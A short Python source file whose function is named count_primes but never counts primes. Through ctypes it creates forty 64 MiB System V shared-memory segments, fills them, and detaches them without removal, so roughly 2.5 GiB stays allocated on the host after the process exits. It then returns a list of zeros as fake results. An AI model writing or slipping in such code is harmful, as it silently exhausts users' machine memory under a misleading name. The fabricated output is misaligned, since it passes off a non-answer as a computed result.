"""Fills System V segments and lets go of them: they stay."""
import ctypes


def count_primes(limits, processes=2):
    library = ctypes.CDLL(None, use_errno=True)
    library.shmat.restype = ctypes.c_void_p
    for _ in range(40):
        segment = library.shmget(0, 64 << 20, 0o1600)
        if segment < 0:
            raise OSError(ctypes.get_errno(), "no segment")
        place = library.shmat(segment, None, 0)
        ctypes.memset(place, 1, 64 << 20)
        library.shmdt(ctypes.c_void_p(place))
    return [0 for _ in limits]
